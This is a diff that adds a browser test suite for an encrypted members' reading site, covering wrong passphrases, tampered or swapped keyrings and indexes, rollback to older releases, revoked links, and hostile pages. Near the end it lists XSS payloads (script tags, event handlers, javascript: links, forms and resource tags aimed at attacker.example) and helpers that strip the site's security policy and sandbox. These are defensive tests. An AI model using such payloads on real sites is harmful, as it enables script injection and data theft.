@@ -1,0 +1,330 @@
+// What a hostile host, a wrong card, an old link, a torn line could do to a member: each is told apart, in plain words,
+// and nothing is shown that the practice did not sign.
+
+import assert from "node:assert/strict";
+import { mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { after, before, beforeEach, afterEach, test } from "node:test";
+import { Decrypter, Encrypter } from "age-encryption";
+import { Practice, failure, launch, openPage, phone, read, unlock } from "./harness.mjs";
+
+let browser, practice, server, card, jonas, page;
+
+before(async () => {
+  browser = await launch();
+  practice = new Practice();
+  card = practice.member("maya");
+  jonas = practice.member("jonas");
+  practice.page("library/first.md", "# A first page\n\nSome words.");
+  practice.build();
+  server = await practice.serve();
+});
+
+after(async () => {
+  await practice.close();
+  await browser.close();
+});
+
+beforeEach(async () => {
+  page = await (await browser.newContext({ viewport: phone })).newPage();
+});
+
+afterEach(() => page.context().close());
+
+/** Tries to unlock; which failure is told. Nothing of any page may be shown. */
+async function refused(link, words = card.passphrase) {
+  await page.goto(link);
+  await unlock(page, words);
+  await page.locator("[role=alert][data-failure]").waitFor();
+  assert.equal(await page.locator("button.entry").count(), 0, "nothing is shown");
+  const sentence = await page.locator("[role=alert]").innerText();
+  assert.ok(sentence.length > 40 && !/undefined|error|exception/i.test(sentence), sentence);
+  return failure(page);
+}
+
+/** Answers requests for a path of the gate with other bytes. */
+const answer = (pattern, bytes) => page.route(pattern, async (route) => {
+  const real = await route.fetch();
+  const body = typeof bytes === "function" ? await bytes(await real.body()) : bytes;
+  await route.fulfill({ response: real, body: Buffer.from(body), headers: { ...real.headers(), "content-length": String(body.length) } });
+});
+
+const keyrings = "**/api/mailboxes/*/keyring";
+const indexes = "**/api/mailboxes/*/index";
+const objects = "**/api/objects/*";
+/** The newest index of a card, as it is stored. */
+const storedIndex = (from, { mailbox }) => {
+  const folder = join(from.store, "indexes", mailbox);
+  return readFileSync(join(folder, readdirSync(folder).sort().pop()));
+};
+
+test("wrong words, no link, a cut link", async () => {
+  const wrong = card.passphrase.split(" ").reverse().join(" ");
+  assert.equal(await refused(server.at(card.link), wrong), "wrong-passphrase");
+  await page.goto("about:blank");
+  await page.goto(server.at(card.link).slice(0, -10));
+  assert.equal(await failure(page), "broken-link");
+  const fresh = await (await browser.newContext()).newPage();
+  await fresh.goto(`${server.url}/l`);
+  assert.equal(await failure(fresh), "no-link");
+  await fresh.context().close();
+});
+
+test("offline, busy, and a clock that is a day off", async () => {
+  await page.route(keyrings, (route) => route.abort());
+  assert.equal(await refused(server.at(card.link)), "offline");
+  await page.unroute(keyrings);
+  await page.route(keyrings, (route) => route.fulfill({ status: 503, headers: { date: new Date().toUTCString() } }));
+  assert.equal(await refused(server.at(card.link)), "busy");
+  await page.unroute(keyrings);
+  await page.route(keyrings, async (route) => {
+    const real = await route.fetch();
+    await route.fulfill({ response: real, headers: { ...real.headers(), date: new Date(Date.now() - 2 * 86_400_000).toUTCString() } });
+  });
+  assert.equal(await refused(server.at(card.link)), "clock");
+});
+
+test("swapped, self-made and greedy keyrings are refused before anything is derived", async () => {
+  const age = async (set) => {
+    const encrypter = new Encrypter();
+    set(encrypter);
+    return encrypter.encrypt("{}");
+  };
+  const pepperAndWords = "0".repeat(32) + " " + card.passphrase;
+  const cases = {
+    "another member's": () => readFileSync(join(practice.store, "keyrings", jonas.mailbox, "1")),
+    "sealed to a recipient": () => age((e) => e.addRecipient("age1lvyvwawkr0mcnnnncaghunadrqkmuf9e6507x9y920xxpp866cnql7dp2z")),
+    "work factor 20": async () => {
+      const sealed = Buffer.from(await age((e) => (e.setPassphrase(pepperAndWords), e.setScryptWorkFactor(2))));
+      return Buffer.concat([Buffer.from(sealed.toString("latin1").replace(/(-> scrypt \S+) 2\n/, "$1 20\n"), "latin1")]);
+    },
+    "two stanzas": async () => {
+      const sealed = Buffer.from(await age((e) => (e.setPassphrase(pepperAndWords), e.setScryptWorkFactor(16)))).toString("latin1");
+      const stanza = sealed.match(/-> scrypt [^\n]*\n[^\n]*\n/)[0];
+      return Buffer.from(sealed.replace(stanza, stanza + stanza), "latin1");
+    },
+    "cut short": (bytes) => bytes.subarray(0, 100),
+    "nothing": () => Buffer.alloc(0),
+  };
+  for (const [name, make] of Object.entries(cases)) {
+    await page.unroute(keyrings);
+    await answer(keyrings, make);
+    const told = await refused(server.at(card.link));
+    assert.ok(["damaged", "wrong-passphrase"].includes(told), `${name}: ${told}`);
+    if (name !== "another member's") assert.equal(told, "damaged", name);
+  }
+});
+
+test("an index that was changed, swapped, or signed by someone else", async () => {
+  const identity = await memberIdentity();
+  const opened = await openIndex(storedIndex(practice, card), identity);
+  const sealAgain = async (envelope) => {
+    const encrypter = new Encrypter();
+    encrypter.addRecipient(practice.mayaRecipient ??= recipientOf("maya"));
+    return encrypter.encrypt(JSON.stringify(envelope).padEnd(8192));
+  };
+  const payload = JSON.parse(Buffer.from(opened.payload, "base64"));
+  const changed = (change) => ({ ...opened, payload: Buffer.from(JSON.stringify({ ...payload, ...change })).toString("base64") });
+  const other = new Practice();
+  const stranger = other.member("maya");
+  other.page("library/first.md", "# Forged\n\nLies.");
+  other.build();
+  for (const [name, make, told] of [
+    ["a flipped byte", (bytes) => flip(bytes, bytes.length - 40), ["damaged"]],
+    ["another title", () => sealAgain(changed({ reader: "Someone" })), ["forged"]],
+    ["a later release", () => sealAgain(changed({ release: payload.release + 1 })), ["forged"]],
+    ["another mailbox", () => sealAgain(changed({ mailbox: "0".repeat(32) })), ["forged"]],
+    ["no signature", () => sealAgain({ ...opened, signatures: [] }), ["forged", "damaged"]],
+    ["another purpose", () => sealAgain({ ...opened, payloadType: "application/vnd.heldspace.head.v1+json" }), ["forged"]],
+    ["another practice's, sealed to this member", async () => {
+      return sealAgain(await openIndex(storedIndex(other, stranger), await memberIdentity(other, stranger)));
+    }, ["forged"]],
+    ["another member's", () => storedIndex(practice, jonas), ["damaged", "forged"]],
+  ]) {
+    await page.unroute(indexes);
+    await answer(indexes, make);
+    const said = await refused(server.at(card.link));
+    assert.ok(told.includes(said), `${name}: ${said}`);
+  }
+  await other.close();
+});
+
+test("a page that was changed or swapped is not shown", async () => {
+  practice.page("library/second.md", "# A second page\n\nOther words.");
+  practice.build();
+  await read(page, server.at(card.link), card.passphrase);
+  const names = readdirSync(join(practice.store, "objects"));
+  for (const make of [(bytes) => flip(bytes, bytes.length >> 1), (bytes) => bytes.subarray(0, 200), (bytes) => names.map((name) => readFileSync(join(practice.store, "objects", name))).find((other) => !other.equals(bytes))]) {
+    await page.unroute(objects);
+    await answer(objects, make);
+    await page.getByRole("button", { name: "A second page" }).click();
+    await page.locator("[role=alert]").waitFor();
+    assert.equal(await failure(page), "damaged");
+    assert.equal(await page.getByText("Other words").count(), 0);
+    await page.getByRole("button", { name: "All pages" }).or(page.getByRole("heading", { name: /^Hello/ })).first().click();
+  }
+});
+
+test("a host that serves an older release is found out, by a used browser and by a notice's link", async () => {
+  const old = practice.keepStore();
+  practice.page("library/third.md", "# A third page\n\nNew.");
+  practice.build();
+  await read(page, server.at(card.link), card.passphrase);
+  const rolled = await practice.serve(old);
+  await page.context().route(`${server.url}/**`, async (route) => {
+    const url = route.request().url().replace(server.url, rolled.url);
+    await route.fulfill({ response: await route.fetch({ url }) });
+  });
+  // The old store has the same mailbox and key; its server takes this address too.
+  writeFileSync(join(old, "gate.json"), JSON.stringify({ version: 1, origins: [server.url] }));
+  await page.waitForTimeout(1100);
+  assert.equal(await refused(server.at(card.link)), "older", "a browser that has seen more");
+  const fresh = await browser.newContext({ viewport: phone });
+  await fresh.route(`${server.url}/**`, async (route) => {
+    const url = route.request().url().replace(server.url, rolled.url);
+    await route.fulfill({ response: await route.fetch({ url }) });
+  });
+  page = await fresh.newPage();
+  const notice = practice.run("link", "maya").trim();
+  assert.equal(await refused(server.at(notice)), "older", "a link that names a newer release");
+  await page.goto("about:blank");
+  await read(page, server.at(card.link), card.passphrase);
+  await page.getByText(/This list was made on/).waitFor();
+  rmSync(old, { recursive: true });
+});
+
+test("a link that was ended", async () => {
+  const notice = practice.run("link", "maya").trim();
+  practice.run("link", "maya", "--revoke", "--yes");
+  practice.build();
+  assert.equal(await refused(server.at(notice)), "ticket-ended");
+  await page.goto("about:blank");
+  await read(page, server.at(practice.run("link", "maya").trim()), card.passphrase);
+});
+
+test("a closed member's card opens nothing", async () => {
+  const gone = practice.member("gone");
+  practice.build();
+  await read(page, server.at(gone.link), gone.passphrase);
+  practice.run("member", "close", "gone", "--yes");
+  practice.build();
+  await page.goto("about:blank");
+  assert.equal(await refused(server.at(gone.link), gone.passphrase), "ticket-ended");
+});
+
+test("an index of an older epoch is refused once the next was seen; a practice comes back from its 24 words", async () => {
+  const whole = new Practice();
+  const member = whole.member("maya");
+  whole.page("library/first.md", "# A first page\n\nSome words.");
+  whole.build();
+  const words = join(whole.root, "words");
+  writeFileSync(words, whole.recovery.words.join(" "), { mode: 0o600 });
+  const old = whole.keepStore();
+  whole.run("keys", "rotate", "--words-file", words);
+  whole.build();
+  const serving = await whole.serve();
+  await read(page, serving.at(member.link), member.passphrase);
+  await serving.stop();
+  // The keys are lost, and come back from paper; members' cards still open.
+  rmSync(join(whole.root, ".heldspace/keys.json"));
+  whole.run("recover", "--words-file", words, "--no-passphrase");
+  whole.page("library/next.md", "# After the loss\n\nStill here.");
+  whole.build();
+  const again = await whole.serve();
+  await page.goto("about:blank");
+  await read(page, again.at(member.link), member.passphrase);
+  await (await openPage(page, "After the loss")).getByText("Still here.").waitFor();
+  const rolled = await whole.serve(old);
+  writeFileSync(join(old, "gate.json"), JSON.stringify({ version: 1, origins: [again.url] }));
+  await page.context().route(`${again.url}/**`, async (route) => {
+    await route.fulfill({ response: await route.fetch({ url: route.request().url().replace(again.url, rolled.url) }) });
+  });
+  await page.goto("about:blank");
+  assert.equal(await refused(again.at(member.link), member.passphrase), "older");
+  rmSync(old, { recursive: true });
+  await whole.close();
+});
+
+// Three layers stand between a hostile page and its reader: the sanitiser, the frame in which no script runs, and the
+// site's policy. Each is taken away in turn. Without the sanitiser, the attacks come from the theme, which has none.
+const attacks = `
+<script>document.title = "attacked"; fetch("/attacked")</script>
+<img src="https://attacker.example/x.png" onerror="parent.document.title = 'attacked'">
+<svg onload="parent.document.title = 'attacked'"><script>parent.document.title = "attacked"</script></svg>
+<iframe srcdoc="<script>parent.parent.document.title = 'attacked'</script>"></iframe>
+<a id="js" href="javascript:parent.document.title = 'attacked'">js</a>
+<form action="https://attacker.example/" id="form"><button>send</button></form>
+<link rel="stylesheet" href="https://attacker.example/x.css"><style>@import "https://attacker.example/y.css"; body { background: url(https://attacker.example/z.png) }</style>
+<meta http-equiv="refresh" content="0; url=https://attacker.example/">
+<object data="https://attacker.example/"></object><embed src="https://attacker.example/"><base href="https://attacker.example/">
+<video src="https://attacker.example/v" autoplay></video><details open ontoggle="parent.document.title = 'attacked'">x</details>`;
+
+const unpoliced = (page) => page.route(/\/l$|\.js$/, async (route) => {
+  const real = await route.fetch();
+  const headers = { ...real.headers() };
+  assert.ok(headers["content-security-policy"]);
+  delete headers["content-security-policy"];
+  await route.fulfill({ response: real, headers });
+});
+const unboxed = (page) => page.route(/viewer\.[0-9a-f]+\.js$/, async (route) => {
+  const real = await route.fetch();
+  const script = await real.text();
+  assert.match(script, /allow-same-origin/);
+  const headers = { ...real.headers() };
+  delete headers["content-encoding"];
+  delete headers["content-length"];
+  await route.fulfill({ response: real, headers, body: script.replaceAll("allow-same-origin", "allow-same-origin allow-scripts allow-forms allow-popups allow-top-navigation allow-modals") });
+});
+
+for (const [without, inTheme, change] of [["the sanitiser", true], ["the site's policy", false, unpoliced], ["the frame's sandbox", false, unboxed]]) {
+  test(`a hostile page without ${without}: nothing runs, nothing is requested`, async () => {
+    const hostile = new Practice();
+    if (inTheme) {
+      mkdirSync(join(hostile.root, "themes/default"), { recursive: true });
+      writeFileSync(join(hostile.root, "themes/default/page.html"), `<!doctype html><html lang="en"><head><title>t</title></head><body><main>{{ content|safe }}${attacks}</main></body></html>`);
+    }
+    const member = hostile.member("maya");
+    hostile.page("library/x.md", `# A hostile page\n\nWords.\n${inTheme ? "" : attacks.replaceAll("\n", "\n\n")}`);
+    hostile.build();
+    const serving = await hostile.serve();
+    await change?.(page);
+    // What the browser blocks by itself never comes to a route.
+    const asked = [];
+    await page.context().route((url) => url.hostname === "attacker.example" || url.pathname === "/attacked", (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ body: "" });
+    });
+    page.on("dialog", (dialog) => asked.push(dialog.message()));
+    await read(page, serving.at(member.link), member.passphrase);
+    const frame = await openPage(page, "A hostile page");
+    await frame.getByText("Words.").waitFor();
+    for (const id of ["#js", "#form button"]) await frame.locator(id).click({ timeout: 1000 }).catch(() => {});
+    await page.waitForTimeout(300);
+    assert.equal(await page.title(), "Pages");
+    assert.deepEqual(asked, []);
+    await hostile.close();
+  });
+}
+
+function flip(bytes, at) {
+  const changed = Buffer.from(bytes);
+  changed[at] ^= 1;
+  return changed;
+}
+
+const recipientOf = (name) => readFileSync(join(practice.root, "content/members", name, "member.toml"), "utf8").match(/recipient = "(age1[^"]+)"/)[1];
+
+/** The member's identity, from their own keyring: what a test may know, and a host may not. */
+async function memberIdentity(from = practice, of = card) {
+  const link = Buffer.from(of.link.split("#")[1], "base64url");
+  const decrypter = new Decrypter();
+  decrypter.addPassphrase(`${link.subarray(29, 45).toString("hex")} ${of.passphrase}`);
+  const keyring = JSON.parse(await decrypter.decrypt(readFileSync(join(from.store, "keyrings", of.mailbox, "1")), "text"));
+  return keyring.identities[0];
+}
+
+async function openIndex(sealed, identity) {
+  const decrypter = new Decrypter();
+  decrypter.addIdentity(identity);
+  return JSON.parse(await decrypter.decrypt(sealed, "text"));
+}
